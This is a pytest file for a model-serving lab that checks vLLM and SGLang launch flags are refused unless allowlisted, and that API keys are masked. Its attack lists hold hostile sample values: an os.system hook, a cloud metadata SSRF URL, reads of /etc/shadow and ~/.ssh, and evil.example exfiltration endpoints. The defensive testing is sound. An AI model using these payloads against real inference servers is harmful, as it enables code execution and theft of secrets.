"""Customer flags by exact name (issue 36): the attacks of the third security round, each
refused at intake as a YAML configuration, as a pasted command and as form fields, with
the flag's name and where the list is; abbreviations read by the release's own parser;
values the engine would refuse refused before a lab day is spent. The node agent's side of
the same attacks is tests/lab/agent/test_flag_gate.py."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest
import yaml

import lab.flag_policy
from lab.config import ConfigError, mask_config
from lab.engines import ENGINES, load_config_text, normalize_config, parse_command, render
from lab.engines.base import launch_spec
from lab.engines.tables import release
from lab.inventory import parse_inventory
from lab.session import authenticated

EXAMPLES = Path(__file__).resolve().parents[2] / "examples" / "configs"
REFERENCE_SGLANG = yaml.safe_load((EXAMPLES / "kimi-k2-8spark-sglang.yaml").read_text())
REFERENCE_VLLM = yaml.safe_load((EXAMPLES / "kimi-k2-8spark-outofbox.yaml").read_text())

HOOK = '[{"name":"h","target_modules":["*"],"hook_factory":"os:system","config":"id > /tmp/pwned"}]'
# The round's SGLang attacks (each flag with a value that would do harm), and the families
# they stand for: hooks, loaders, dump folders, URLs, overrides, templates, sockets, sidecars.
SGLANG_ATTACKS: list[list[str]] = [
    ["--forward-hooks", HOOK],
    ["--delete-ckpt-after-loading"],
    ["--custom-weight-loader", "os.system"],
    ["--crash-dump-folder", "/home/diag/.ssh"],
    ["--debug-tensor-dump-output-folder", "/home/diag/.ssh"],
    ["--log-requests-target", "/var/lib/diag/other-customer.log"],
    ["--encoder-urls", "http://169.254.169.254/latest/meta-data/"],
    ["--json-model-override-args", '{"architectures": ["Evil"]}'],
    ["--completion-template", "/etc/passwd"],
    ["--init-expert-location", "/etc/shadow"],
    ["--rl-quant-profile", "/tmp/x.json"],
    ["--weight-cache-socket", "/run/evil.sock"],
    ["--sidecar", "python3 -c 'import os'"],
    ["--download-dir", "/models/x"],
    ["--model-loader-extra-config", '{"a": 1}'],
    ["--enable-custom-logit-processor"],
    ["--ssl-keyfile", "/etc/ssl/private/x.key"],
    ["--tool-server", "evil.example:80"],
    ["--kv-events-config", '{"endpoint": "tcp://evil.example:1"}'],
    ["--dp-size", "8"],  # a layout the lab does not reproduce
]
VLLM_ATTACKS: list[list[str]] = [
    ["--worker-extension-cls", "evil.W"],
    ["--worker-cls", "evil.W"],
    ["--tool-parser-plugin", "/tmp/p.py"],
    ["--middleware", "evil.module.App"],
    ["--distributed-executor-backend", "evil.Executor"],
    ["--logits-processors", "evil.Proc"],
    ["--hf-overrides", '{"architectures": ["Evil"]}'],
    ["--download-dir", "/models/x"],
    ["--config", "/tmp/args.yaml"],
    ["--ssl-keyfile", "/etc/ssl/private/x.key"],
    ["--uds", "/run/evil.sock"],
    ["--tool-server", "evil.example:80"],
    ["--log-config-file", "/tmp/log.json"],
    ["--otlp-traces-endpoint", "http://evil.example:4317"],
    ["--kv-transfer-config", '{"kv_connector": "Evil"}'],
    ["--lora-modules", "x=/tmp/lora"],
    ["--revision", "main"],
    ["--hf-token", "hf_abc"],
    ["--model-impl", "transformers"],
    ["--allowed-local-media-path", "/"],
    ["--data-parallel-size", "64"],
    ["--quantization", "bogus"],
]


def _has(engine: str, version: str, flag: str) -> bool:
    return any(flag in e["option_strings"] for e in release(engine, version)["flags"].values())


def _cases(engine: str, attacks: list[list[str]]) -> list[tuple[str, list[str]]]:
    versions = ("0.5.12", "0.5.23") if engine == "sglang" else ("0.29.0", "0.34.0")
    return [(v, a) for v in versions for a in attacks if _has(engine, v, a[0])]


def _with_extra(reference: dict[str, Any], version: str, extra: list[str]) -> dict[str, Any]:
    config = copy.deepcopy(reference)
    config["engine"] = {**config["engine"], "version": version}
    config["extra_args"] = [*config.get("extra_args", []), *extra]
    return config


def _refused(config: dict[str, Any]) -> ConfigError:
    with pytest.raises(ConfigError) as info:
        normalize_config(config)
    return info.value


@pytest.mark.parametrize(("version", "attack"), _cases("sglang", SGLANG_ATTACKS),
                         ids=lambda v: v if isinstance(v, str) else v[0])
def test_an_sglang_flag_off_the_list_is_refused_at_intake(version: str, attack: list[str]) -> None:
    where = f"lab/engines/releases/sglang-{version}.flags.yaml"
    error = _refused(_with_extra(REFERENCE_SGLANG, version, attack))
    assert error.field == "extra_args"
    assert f"{attack[0]!r} is not a flag the lab lets a configuration pass to SGLang {version}" \
        in error.problem and where in error.problem
    # The same flag pasted into the command, and in YAML.
    command = ("python3 -m sglang.launch_server --model-path /models/kimi-k2 --tp-size 8 "
               "--trust-remote-code " + " ".join(json.dumps(a) if " " in a or "{" in a or "[" in a
                                                 else a for a in attack))
    with pytest.raises(ConfigError) as pasted:
        parse_command(command, version=version)
    assert pasted.value.field == "launch_command" and attack[0] in pasted.value.problem
    with pytest.raises(ConfigError):
        load_config_text(yaml.safe_dump(_with_extra(REFERENCE_SGLANG, version, attack)))


@pytest.mark.parametrize(("version", "attack"), _cases("vllm", VLLM_ATTACKS),
                         ids=lambda v: v if isinstance(v, str) else v[0])
def test_a_vllm_flag_off_the_list_is_refused_at_intake(version: str, attack: list[str]) -> None:
    error = _refused(_with_extra(REFERENCE_VLLM, version, attack))
    assert error.field == "extra_args"
    assert f"{attack[0]!r} is not a flag the lab lets a configuration pass to vLLM {version}" \
        in error.problem
    assert f"lab/engines/releases/vllm-{version}.flags.yaml" in error.problem


@pytest.mark.parametrize(("written", "meant"), [
    (["--forward-h", HOOK], "--forward-hooks"), (["--crash-dump", "/tmp"], "--crash-dump-folder"),
    (["--encoder-u", "http://169.254.169.254/"], "--encoder-urls"),
    (["--sidecar-a", '["-c", "import os"]'], "--sidecar-args"),
])
def test_an_abbreviation_of_a_refused_flag_is_read_as_the_flag_it_stands_for(
        written: list[str], meant: str) -> None:
    error = _refused(_with_extra(REFERENCE_SGLANG, "0.5.23", written))
    assert f"{meant!r} is not a flag the lab lets a configuration pass" in error.problem
    # An abbreviation the release itself finds ambiguous is refused in its words.
    assert "ambiguous option: --sidec could match --sidecar, --sidecar-args" in _refused(
        _with_extra(REFERENCE_SGLANG, "0.5.23", ["--sidec", "x"])).problem


def test_an_abbreviated_secret_flag_is_stored_as_the_flag_and_masked() -> None:
    key = "sk-live-0123456789abcdef"
    for reference, version in ((REFERENCE_VLLM, "0.34.0"), (REFERENCE_SGLANG, "0.5.23")):
        config = normalize_config(_with_extra(reference, version, ["--api-k", key]))
        assert config["extra_args"][-2:] == ["--api-key", key]
        stored = mask_config(config)
        assert key not in json.dumps(stored)
        assert stored["extra_args"][-1] == "••••cdef"
    # Even the raw text as written is masked: --api-k is read as the secret flag it expands to.
    assert key not in json.dumps(mask_config({"extra_args": ["--api-k", key]}))
    assert key not in json.dumps(mask_config({"extra_args": [f"--api-ke={key}"]}))


def test_the_lab_puts_its_own_key_where_an_abbreviated_key_was_given() -> None:
    config = normalize_config(_with_extra(REFERENCE_VLLM, "0.34.0", ["--api-k", "sk-customer"]))
    inventory = parse_inventory({
        "schema": "lab.inventory/1", "name": "t", "known_hosts": "/dev/null",
        "nodes": [{"name": f"n{i}", "host": "127.0.0.1", "role": "head" if i == 0 else "worker"}
                  for i in range(8)]}, base=Path("/tmp"))
    spec = render(config, inventory.nodes)[0]
    uploaded = authenticated(spec, "diag-lab-key")
    assert "sk-customer" not in uploaded["argv"]
    assert uploaded["argv"][uploaded["argv"].index("--api-key") + 1] == "diag-lab-key"


@pytest.mark.parametrize(("engine", "extra", "says"), [
    ("vllm", ["--quantization", "bogus"], "'--quantization' is not a flag"),
    ("vllm", ["--max-num-seqs", "-5"], "--max-num-seqs takes a whole number from 1 to 4096"),
    ("vllm", ["--max-num-seqs", "0"], "--max-num-seqs takes a whole number from 1 to 4096"),
    ("vllm", ["--block-size", "7"], "--block-size takes one of 16, 32, 64, 128"),
    ("vllm", ["--attention-backend", "BOGUS"], "--attention-backend takes one of CUTLASS_MLA"),
    ("vllm", ["--data-parallel-size", "64"], "'--data-parallel-size' is not a flag"),
    ("vllm", ["--compilation-config", '{"backend": "evil.compile"}'], "key 'backend' is not accepted"),
    ("vllm", ["--compilation-config", '{"mode": 9}'], "key 'mode' takes a number from 0 to 3"),
    ("vllm", ["--max-num-seqs", "512", "--max-num-batched-tokens", "256"],
     "max_num_batched_tokens (256) must be greater than or equal to max_num_seqs (512)"),
    ("vllm", ["--tokenizer-mode", "custom"], "--tokenizer-mode takes one of auto, hf"),
    ("sglang", ["--page-size", "7"], "--page-size takes one of 1, 16, 32, 64, 128"),
    ("sglang", ["--attention-backend", "BOGUS"], "invalid choice: 'BOGUS'"),
    ("sglang", ["--max-running-requests", "0"], "--max-running-requests takes a whole number"),
    ("sglang", ["--quantization", "modelopt_fp4"], "'--quantization' is not a flag"),
])
def test_a_value_the_engine_would_refuse_is_refused_at_intake(
        engine: str, extra: list[str], says: str) -> None:
    reference = REFERENCE_VLLM if engine == "vllm" else REFERENCE_SGLANG
    error = _refused(_with_extra(reference, reference["engine"]["version"], extra))
    assert error.field == "extra_args"
    assert says in error.problem, error.problem


def test_flags_on_the_list_pass_and_are_stored_as_the_list_spells_them() -> None:
    config = normalize_config(_with_extra(REFERENCE_VLLM, "0.34.0", [
        "--max-num-seqs", "64", "--max-num-batched-tokens=16k", "--enable-prefix", "--block-size", "64",
        "--compilation-config", '{"cudagraph_mode": "FULL_DECODE_ONLY"}', "--max_num_batched_tokens",
        "32768"]))
    assert config["extra_args"][1:] == [
        "--max-num-seqs", "64", "--max-num-batched-tokens=16000", "--enable-prefix-caching",
        "--block-size", "64", "--compilation-config", '{"cudagraph_mode": "FULL_DECODE_ONLY"}',
        "--max-num-batched-tokens", "32768"]
    sglang = normalize_config(_with_extra(REFERENCE_SGLANG, "0.5.23", [
        "--max-running-requests", "32", "--chunked-prefill-size", "-1", "--schedule-pol", "lpm"]))
    assert sglang["extra_args"][-6:] == ["--max-running-requests", "32", "--chunked-prefill-size", "-1",
                                         "--schedule-policy", "lpm"]


def test_a_flag_the_lab_or_a_field_sets_is_refused_with_where_to_set_it() -> None:
    assert "set by the lab for each node" in _refused(
        _with_extra(REFERENCE_SGLANG, "0.5.23", ["--dist-init-addr", "10.0.0.1:5000"])).problem
    assert "is set by serving.gpu_memory_utilization" in _refused(
        _with_extra(REFERENCE_SGLANG, "0.5.23", ["--mem-fraction-static", "0.5"])).problem


# -- the lists themselves --------------------------------------------------------------------
RELEASES = [(engine, version) for engine in ("vllm", "sglang")
            for version in lab.flag_policy.compiled_policy()["releases"][engine]]


@pytest.mark.parametrize(("engine", "version"), RELEASES)
def test_every_list_agrees_with_the_engine_modules_and_the_fields(engine: str, version: str) -> None:
    listed = lab.flag_policy.release_list(engine, version)
    known = ENGINES[engine]
    parser = known.parser(version)
    # Every flag the platform renders for a field or per node is on the list, marked so.
    for field, flag in known.field_flags.items():
        option = parser.option(flag)
        if option is None:
            continue
        spelled = next(s for s in option.option_strings if s in listed["flags"] or s == flag)
        assert spelled in listed["flags"], (flag, field)
        assert listed["flags"][spelled].get("set_by"), flag
    for flag in known.launch_flags:
        if parser.option(flag) is not None:
            assert listed["flags"][flag]["set_by"] == "lab", flag
    # What a list lets a customer pass is never a flag the engine module says the lab sets.
    for flag, rule in listed["flags"].items():
        option = parser.option(flag)
        assert option is not None
        if not rule.get("set_by"):
            assert option.dest not in known.launch_dests(parser), flag
            assert option.dest not in known.modelled_dests(parser) or rule.get("loads"), flag


def test_the_lists_are_held_to_their_release(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = lab.flag_policy.list_path("vllm", "0.34.0")
    text = path.read_text().replace("  --seed: {rule: number", "  --no-such-flag: {rule: number")
    fake = tmp_path / path.name
    fake.write_text(text)
    monkeypatch.setattr(lab.flag_policy, "list_path", lambda engine, version: fake)
    lab.flag_policy.release_list.cache_clear()
    try:
        with pytest.raises(lab.flag_policy.FlagPolicyError, match="the release has no option --no-such-flag"):
            lab.flag_policy.release_list("vllm", "0.34.0")
        fake.write_text(path.read_text().replace("--enforce-eager: {rule: switch",
                                                 "--enforce-eager: {rule: identifier"))
        lab.flag_policy.release_list.cache_clear()
        with pytest.raises(lab.flag_policy.FlagPolicyError, match="takes no value"):
            lab.flag_policy.release_list("vllm", "0.34.0")
    finally:
        lab.flag_policy.release_list.cache_clear()


def test_a_rendered_spec_the_list_refuses_never_leaves_the_platform() -> None:
    # The agent's check, run at render, names what a hand-built spec would carry.
    inventory = parse_inventory({
        "schema": "lab.inventory/1", "name": "t", "known_hosts": "/dev/null",
        "nodes": [{"name": "n0", "host": "127.0.0.1", "role": "head"}]}, base=Path("/tmp"))
    argv = ["python3", "-m", "sglang.launch_server", "--model-path", "/models/kimi-k2",
            "--forward-hooks", HOOK]
    spec = launch_spec("sglang", inventory.nodes[0], 0, argv, {}, "0.5.23")
    problem = lab.flag_policy.launch_argv_problem(spec["argv"], "sglang", "0.5.23", "/models")
    assert problem is not None and problem[0] == "argv[5]" and "'--forward-hooks'" in problem[1]
